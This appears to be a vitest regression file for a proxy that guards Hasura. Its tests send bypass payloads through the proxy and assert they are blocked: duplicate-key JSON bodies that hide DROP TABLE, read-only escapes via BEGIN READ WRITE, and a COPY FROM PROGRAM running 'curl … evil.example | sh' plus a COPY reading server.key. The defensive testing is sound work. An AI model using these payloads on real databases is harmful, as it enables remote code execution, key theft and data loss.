// Bypasses of the enforcing proxy that an adversarial review found: each test sends a request through the real proxy
// (real analysis, default policy, production) in front of the stand-in Hasura and asserts the safe behaviour; each
// failed before its fix, as a destructive change that reached Hasura unheld.
//
// Duplicate object keys. The guard parses a body with JSON.parse, which keeps the LAST value of a repeated key, and
// forwards the original bytes. Hasura parses them with aeson (server/src-lib/Hasura/Server/App.hs, parseBody:
// `eitherDecode' reqBody`), which keeps the FIRST: aeson's Data.Aeson.Parser.Internal documents `json`/`json'` as
// "If an object contains duplicate keys, only the first one will be kept" (KM.fromList over the pairs accumulated in
// reverse), and aeson 2.2's token decoder says the same (Data/Aeson/Decoding/Conversion.hs, convertR: "the first
// duplicate key in objects wins"). So a body can say one thing to the guard and another to Hasura; and since a
// confirmation is bound to the fingerprint of the parsed body, a confirmed change can also be swapped for another.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { TABLES_IN_BYTES_FROM } from '../../src/big-json/lazy-tables.js';
import { ADMIN_SECRET, rawRequest, startEnforcingServer, type EnforcingServer } from '../support/enforcing-server.js';

const permission = { role: 'user', permission: { columns: ['id'], filter: {} } };
const table = (name: string) => ({ table: { schema: 'public', name }, select_permissions: [permission] });
const configuration = { connection_info: { database_url: { from_env: 'PG_DATABASE_URL' } } };
const METADATA = { version: 3, sources: [{ name: 'default', kind: 'postgres', tables: [table('patients'), table('doctors')], configuration }] };

let guard: EnforcingServer;
beforeAll(async () => {
  guard = await startEnforcingServer({});
});
afterAll(() => guard.close());
beforeEach(() => {
  guard.hasura.requests.length = 0;
  guard.hasura.metadata = METADATA;
});

const headers = { 'content-type': 'application/json', 'x-hasura-admin-secret': ADMIN_SECRET };
const send = (path: string, raw: string) => rawRequest(guard.url, 'POST', path, headers, raw);

/** What aeson reads (first occurrence of a key wins), for the assertions' messages: proves the bytes mean a DROP to Hasura. */
function firstKeyWins(raw: string): unknown {
  // A tiny JSON reader keeping the first value of a repeated key, enough for these bodies.
  let i = 0;
  const ws = () => {
    while (/\s/.test(raw[i] ?? '')) i++;
  };
  const value = (): unknown => {
    ws();
    const c = raw[i];
    if (c === '{') {
      i++;
      const out: Record<string, unknown> = {};
      ws();
      if (raw[i] === '}') return i++, out;
      for (;;) {
        ws();
        const key = value() as string;
        ws();
        i++; // :
        const v = value();
        if (!Object.hasOwn(out, key)) out[key] = v;
        ws();
        if (raw[i++] === '}') return out;
      }
    }
    if (c === '[') {
      i++;
      const out: unknown[] = [];
      ws();
      if (raw[i] === ']') return i++, out;
      for (;;) {
        out.push(value());
        ws();
        if (raw[i++] === ']') return out;
      }
    }
    const m = /^("(?:[^"\\]|\\.)*"|-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?|true|false|null)/.exec(raw.slice(i))!;
    i += m[0].length;
    return JSON.parse(m[0]);
  };
  return value();
}

describe('duplicate keys: the guard reads the last, Hasura (aeson) the first', () => {
  it('run_sql whose args say "sql" twice, DROP first, a SELECT last: not forwarded unheld', async () => {
    const raw =
      '{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.patients","sql":"SELECT 1","cascade":false,"read_only":false}}';
    expect(firstKeyWins(raw)).toMatchObject({ args: { sql: 'DROP TABLE public.patients' } });
    const answer = await send('/v2/query', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
  });

  it('a key repeated in an escaped spelling ("s\\u0071l" is "sql") is refused in Hasura\'s shape with its code', async () => {
    const raw = '{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.patients","s\\u0071l":"SELECT 1"}}';
    const answer = await send('/v2/query', raw);
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ path: '$', code: 'guard-refused' });
    expect(answer.json.error).toContain('says the key "sql" twice');
    expect(guard.hasura.forwarded()).toEqual([]);
  });

  it('the same key in sibling and nested objects is no repetition: a bulk of two reads passes', async () => {
    const raw = JSON.stringify({
      type: 'bulk',
      args: [
        { type: 'run_sql', args: { source: 'default', sql: 'SELECT 1', read_only: true } },
        { type: 'run_sql', args: { source: 'default', sql: 'SELECT 2', read_only: true } },
      ],
    });
    const answer = await send('/v2/query', raw);
    expect(answer.status).toBe(200);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([raw]);
  });

  it('run_sql with "read_only" false first and true last, and a DROP: not forwarded unheld', async () => {
    const raw = '{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.patients","read_only":false,"read_only":true}}';
    expect(firstKeyWins(raw)).toMatchObject({ args: { read_only: false } });
    const answer = await send('/v2/query', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
  });

  it('a request whose "type" is pg_untrack_table first and a read last: not forwarded unheld', async () => {
    const raw =
      '{"type":"pg_untrack_table","type":"get_inconsistent_metadata","args":{"table":{"schema":"public","name":"patients"},"source":"default"}}';
    expect(firstKeyWins(raw)).toMatchObject({ type: 'pg_untrack_table' });
    const answer = await send('/v1/metadata', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
  });

  it('a bulk whose "args" lists a drop first and a read last: not forwarded unheld', async () => {
    const raw =
      '{"type":"bulk","source":"default","args":[{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.patients"}}],"args":[{"type":"get_inconsistent_metadata","args":{}}]}';
    expect(firstKeyWins(raw)).toMatchObject({ args: [{ type: 'run_sql' }] });
    const answer = await send('/v2/query', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
  });

  it('replace_metadata whose "metadata" is an empty one first and the metadata in force last: not forwarded unheld', async () => {
    const raw = `{"type":"replace_metadata","version":2,"args":{"allow_inconsistent_metadata":true,"metadata":{"version":3,"sources":[]},"metadata":${JSON.stringify(METADATA)}}}`;
    expect(firstKeyWins(raw)).toMatchObject({ args: { metadata: { sources: [] } } });
    const answer = await send('/v1/metadata', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
  });

  it('a big replace_metadata (read in its bytes, past TABLES_IN_BYTES_FROM) whose "metadata" is empty first: not forwarded unheld', async () => {
    const archive = Array.from({ length: Math.ceil(TABLES_IN_BYTES_FROM / 40) }, (_, i) => ({ table: { schema: 'archive', name: `t${i}` } }));
    const big = { ...METADATA, sources: [{ ...METADATA.sources[0]!, tables: [...METADATA.sources[0]!.tables, ...archive] }] };
    guard.hasura.metadata = big;
    const raw = `{"type":"replace_metadata","version":2,"args":{"allow_inconsistent_metadata":true,"metadata":{"version":3,"sources":[]},"metadata":${JSON.stringify(big)}}}`;
    expect(raw.length).toBeGreaterThan(TABLES_IN_BYTES_FROM);
    const answer = await send('/v1/metadata', raw);
    expect(guard.hasura.forwarded().length).toBe(0);
    expect(answer.status).toBe(400);
  });

  it('a confirmation of one drop does not let another through: DROP patients first, the confirmed DROP scratch last', async () => {
    const confirmedBody = '{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.tmp_scratch"}}';
    const held = await send('/v2/query', confirmedBody);
    expect(held.json.code).toBe('guard-confirmation-required');
    const token = held.json.guard.confirmation_token as string;
    const confirmed = await rawRequest(guard.url, 'POST', '/guard/confirm', headers, JSON.stringify({ token }));
    expect(confirmed.json.success).toBe(true);

    // Same parsed body, hence same fingerprint, to the guard; to Hasura it drops patients.
    const swapped = '{"type":"run_sql","args":{"source":"default","sql":"DROP TABLE public.patients","sql":"DROP TABLE public.tmp_scratch"}}';
    expect(firstKeyWins(swapped)).toMatchObject({ args: { sql: 'DROP TABLE public.patients' } });
    await send('/v2/query', swapped);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).not.toContain(swapped);
  });
});

// run_sql with read_only: true. Hasura runs it in `BEGIN … READ ONLY`, then `SET LOCAL "hasura.tracecontext"` and
// `SET LOCAL "hasura.user"` (runTxWithCtx, Hasura/Backends/Postgres/Connection/MonadTx.hs), then the SQL: nothing has
// taken a snapshot yet. A BEGIN or START TRANSACTION inside that transaction only warns ("there is already a
// transaction in progress") but still applies its options (standard_ProcessUtility, TRANS_STMT_BEGIN/START:
// SetPGVariable("transaction_read_only", …)), and check_transaction_read_only allows read-write before the first
// snapshot of a top-level transaction. Checked on this machine's embedded PostgreSQL with exactly that preamble: the
// DROP ran and the table was gone. The guard already treats SET TRANSACTION READ WRITE as leaving the read-only
// transaction (src/analysis/sql.ts, leavesReadOnlyTransaction), but not BEGIN/START TRANSACTION READ WRITE.
describe('run_sql with read_only: true, lifted by BEGIN/START TRANSACTION READ WRITE', () => {
  it.each([
    ['BEGIN READ WRITE; DROP TABLE public.patients'],
    ['START TRANSACTION READ WRITE; DROP TABLE public.patients'],
    ['BEGIN ISOLATION LEVEL READ COMMITTED, READ WRITE; TRUNCATE public.patients'],
  ])('%s is held, and Hasura never sees it', async (sql) => {
    const raw = JSON.stringify({ type: 'bulk', source: 'default', args: [{ type: 'run_sql', args: { source: 'default', sql, cascade: false, read_only: true } }] });
    const answer = await send('/v2/query', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.status).toBe(400);
    expect(answer.json.code).toBe('guard-confirmation-required');
  });
});

// /v2/query's (and /v1/query's) `insert` with `on_conflict: {action: "update"}` is an upsert: Hasura's RQL DML
// insert turns CAUpdate into ON CONFLICT … DO UPDATE SET every inserted column = EXCLUDED (Hasura/RQL/DML/Insert.hs;
// RQInsert in Server/API/V2Query.hs), overwriting existing rows. The guard reads the SQL spelling of the same thing as
// `rewrite:rows` (src/analysis/sql-statements.ts, "ON CONFLICT DO UPDATE"), confirmed in production, but the
// request type as `add:rows` only (src/analysis/hasura.ts, analyzeRows), which passes.
describe('the rows API: an upsert overwrites rows', () => {
  it('insert with on_conflict action "update" is held like INSERT … ON CONFLICT DO UPDATE, and Hasura never sees it', async () => {
    const sqlForm = await send(
      '/v2/query',
      JSON.stringify({ type: 'run_sql', args: { source: 'default', sql: "INSERT INTO patients(id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = excluded.name" } }),
    );
    expect(sqlForm.json.code).toBe('guard-confirmation-required'); // the guard's own reading of the SQL spelling

    const raw = JSON.stringify({
      type: 'insert',
      args: { source: 'default', table: { schema: 'public', name: 'patients' }, objects: [{ id: 1, name: 'x' }], on_conflict: { constraint: 'patients_pkey', action: 'update' } },
    });
    const answer = await send('/v2/query', raw);
    expect(guard.hasura.forwarded().map((r) => r.body.toString())).toEqual([]);
    expect(answer.json.code).toBe('guard-confirmation-required');
  });
});

const json = { 'content-type': 'application/json' };
const runSql = (sql: string, extra: Record<string, unknown> = {}) => ({ type: 'run_sql', args: { source: 'default', sql, ...extra } });

// ---- read_only run_sql: what PostgreSQL still runs in Hasura's READ ONLY transaction (a second review) ----------
//
// src/analysis/sql.ts refusedInReadOnly() took every COPY … FROM as refused by Hasura's READ ONLY transaction and
// replaces its effects with "read:sql (refused by a read-only transaction)". PostgreSQL refuses COPY FROM in a
// read-only transaction only when the target is not a temporary table of the session (src/backend/commands/copy.c,
// DoCopy: `if (XactReadOnly && !rel->rd_islocaltemp) PreventCommandIfReadOnly("COPY FROM")`, then BeginCopyFrom runs
// the PROGRAM or opens the file). A temporary table lives as long as the pooled connection Hasura keeps (and
// CREATE TEMP TABLE is itself routine), so the shell command or the file read runs, and the guard called it routine.
// Likewise ClassifyUtilityCommandAsReadOnly (tcop/utility.c) returns COMMAND_OK_IN_READ_ONLY_TXN for LOCK in any mode
// ("Only weaker locker modes are allowed during recovery"): LOCK … ACCESS EXCLUSIVE is NOT refused by a read-only
// transaction, yet refusedInReadOnly said `mode > 3` was.
describe('read_only run_sql hides what PostgreSQL still runs', () => {
  let guard: EnforcingServer;
  beforeAll(async () => {
    guard = await startEnforcingServer({});
  });
  afterAll(() => guard.close());
  const send = (body: unknown) => rawRequest(guard.url, 'POST', '/v2/query', { ...json, 'x-hasura-admin-secret': ADMIN_SECRET }, JSON.stringify(body));

  it('COPY into a temporary table FROM PROGRAM under read_only runs a shell command: not routine', async () => {
    guard.hasura.requests.length = 0;
    // Step 1, routine today: a temporary table on (one of) Hasura's pooled connections.
    const setup = await send(runSql('CREATE TEMP TABLE scratch (line text)'));
    expect(setup.status).toBe(200);
    // Step 2: PostgreSQL runs the program even in the READ ONLY transaction, since the target is a temporary table.
    const copy = await send(runSql("COPY pg_temp.scratch FROM PROGRAM 'curl -s https://evil.example/x | sh'", { read_only: true }));
    expect.soft(copy.status).toBe(400);
    expect.soft(guard.hasura.forwarded().map((r) => r.body.toString())).not.toContainEqual(expect.stringContaining('FROM PROGRAM'));
  });

  it('COPY into a temporary table FROM a server file under read_only reads that file: not routine', async () => {
    guard.hasura.requests.length = 0;
    const copy = await send(runSql("COPY pg_temp.scratch FROM '/var/lib/postgresql/data/server.key'", { read_only: true }));
    expect.soft(copy.status).toBe(400);
    expect.soft(guard.hasura.forwarded()).toEqual([]);
  });

  it('LOCK … ACCESS EXCLUSIVE under read_only is not refused by PostgreSQL: judged as without read_only', async () => {
    guard.hasura.requests.length = 0;
    const sql = 'LOCK TABLE public.patients IN ACCESS EXCLUSIVE MODE; SELECT count(*) FROM public.patients a, public.patients b, public.patients c';
    const plain = await send(runSql(sql));
    expect(plain.status).toBe(400); // held without read_only (modify:table)
    const readOnly = await send(runSql(sql, { read_only: true }));
    // Every reader of patients waits for this transaction: the same lock, read_only or not.
    expect.soft(readOnly.status).toBe(400);
    expect.soft(guard.hasura.forwarded()).toEqual([]);
  });
});

